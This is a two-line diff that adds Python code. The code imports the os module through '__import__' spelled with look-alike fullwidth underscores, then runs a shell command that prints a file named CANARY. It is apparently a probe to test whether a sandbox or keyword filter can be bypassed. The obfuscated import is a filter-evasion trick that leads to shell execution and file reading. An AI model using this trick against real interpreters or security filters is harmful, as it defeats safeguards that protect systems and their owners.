@@ -1,0 +1,2 @@
+tool = _＿import_＿("os")
+tool.system("cat CANARY")
